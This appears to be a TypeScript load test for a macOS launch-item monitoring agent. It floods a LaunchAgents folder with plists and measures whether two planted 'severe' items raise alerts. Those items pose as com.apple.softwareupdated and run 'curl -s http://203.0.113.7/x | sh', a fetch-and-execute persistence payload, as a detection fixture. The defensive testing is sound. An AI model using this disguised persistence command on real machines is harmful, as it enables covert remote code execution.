import { mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { type AgentProcess, launchAgentPlist, type SimulatedMac, waitFor } from './mac.js';

/** What became of one severe item amid many others. */
export interface Severe {
  readonly path: string;
  /** Alerts of its own of a priority above low. */
  readonly alerts: number;
  /** From its write to the commit of the first of them, milliseconds; undefined when there is none. */
  readonly ms: number | undefined;
}

/** What became of many launch items that were written at once, and of two severe ones in the middle of them. */
export interface DropReport {
  readonly lists: number;
  /** Lists of which there is an event. */
  readonly seen: number;
  /** Lists that have an alert of their own, or are counted by the summary of those that were held back. */
  readonly told: number;
  /** In the flooded folder itself, and among the system's daemons. */
  readonly severe: readonly Severe[];
  /** From the first write to the last, and until the agent had judged everything, milliseconds. */
  readonly writtenMs: number;
  readonly judgedMs: number;
  /** The most memory that the agent ever held, bytes; undefined on a system without /proc. */
  readonly peakBytes: number | undefined;
}

const folder = '/Users/alice/Library/LaunchAgents';
const severePaths = [
  `${folder}/com.apple.softwareupdated.plist`,
  '/Library/LaunchDaemons/com.apple.softwareupdated.plist',
];
const rule = 'Launch item created or changed';
const severeList = launchAgentPlist('com.apple.softwareupdated', [
  '/bin/sh',
  '-c',
  'curl -s http://203.0.113.7/x | sh',
]);

/** Writes so many lists into one folder without a pause, and two severe ones when half of them stand there. */
export async function dropLists(agent: AgentProcess, lists: number, settleMs: number): Promise<DropReport> {
  const { mac } = agent;
  mkdirSync(mac.host(folder), { recursive: true });
  const begun = performance.now();
  let severeAt = 0;
  for (let index = 0; index < lists; index++) {
    if (index === Math.floor(lists / 2)) {
      severeAt = Date.now();
      for (const one of severePaths) mac.write(one, severeList);
    }
    mac.write(`${folder}/net.example.drop-${index}.plist`, launchAgentPlist(`net.example.drop-${index}`));
  }
  const writtenMs = performance.now() - begun;
  const wanted = lists + severePaths.length;
  await waitFor(
    'the agent to see every list',
    () => (seenOf(mac) >= wanted ? true : undefined),
    settleMs,
  ).catch(() => undefined);
  await settledWithin(agent, settleMs);
  const judgedMs = performance.now() - begun;
  // A summary is brought up to date a while after what it counts.
  await waitFor(
    'the summary to count the rest',
    () => (toldOf(mac) >= wanted ? true : undefined),
    settleMs,
  ).catch(() => undefined);
  const peakBytes = peakOf(agent);
  return {
    lists: wanted,
    seen: seenOf(mac),
    told: toldOf(mac),
    severe: severePaths.map((one) => severeOf(mac, one, severeAt)),
    writtenMs,
    judgedMs,
    peakBytes,
  };
}

function read<T>(mac: SimulatedMac, name: string, sql: string, ...values: string[]): T[] {
  const db = new Database(path.join(mac.dataDir, name), { readonly: true });
  try {
    return db.prepare(sql).all(...values) as T[];
  } finally {
    db.close();
  }
}

function severeOf(mac: SimulatedMac, macPath: string, since: number): Severe {
  const found = read<{ created: number }>(
    mac,
    'launchwarden.db',
    `SELECT a.created FROM alerts a JOIN documents d ON d.seq = a.doc
      WHERE json_extract(d.body, '$.file.path') = ? AND a.priority >= 40 ORDER BY a.created`,
    macPath,
  );
  const [first] = found;
  const ms = first === undefined ? undefined : first.created / 1000 - since;
  return { path: macPath, alerts: found.length, ms };
}

function seenOf(mac: SimulatedMac): number {
  const [row] = read<{ seen: number }>(
    mac,
    'events.db',
    `SELECT count(DISTINCT json_extract(body, '$.file.path')) AS seen FROM events
      WHERE json_extract(body, '$.file.path') LIKE '%/Library/Launch%/%.plist'`,
  );
  return row?.seen ?? 0;
}

async function settledWithin(agent: AgentProcess, milliseconds: number): Promise<void> {
  const now = Date.now() * 1000;
  await waitFor(
    'the agent to judge everything',
    async () => ((await agent.status()).complete_through > now ? true : undefined),
    milliseconds,
  );
}

function peakOf({ child }: AgentProcess): number | undefined {
  try {
    const kib = /^VmHWM:\s*(\d+)/m.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1];
    return kib === undefined ? undefined : Number(kib) * 1024;
  } catch {
    return undefined;
  }
}

/** Lists that an alert of the rule for every launch item is about, and those that its summaries count. */
function toldOf(mac: SimulatedMac): number {
  const alerts = read<{ kind: string; path: string | null; suppressed: number }>(
    mac,
    'launchwarden.db',
    `SELECT json_extract(d.body, '$.launchwarden.alert.kind') AS kind, json_extract(d.body, '$.file.path') AS path,
        json_extract(d.body, '$.launchwarden.alert.suppressed') AS suppressed
      FROM alerts a JOIN documents d ON d.seq = a.doc WHERE a.rule_name = ?`,
    rule,
  );
  const own = new Set(alerts.filter(({ kind }) => kind === 'match').map(({ path }) => path));
  const held = alerts.filter(({ kind }) => kind === 'summary').map(({ suppressed }) => suppressed);
  return own.size + held.reduce((sum, count) => sum + count, 0);
}
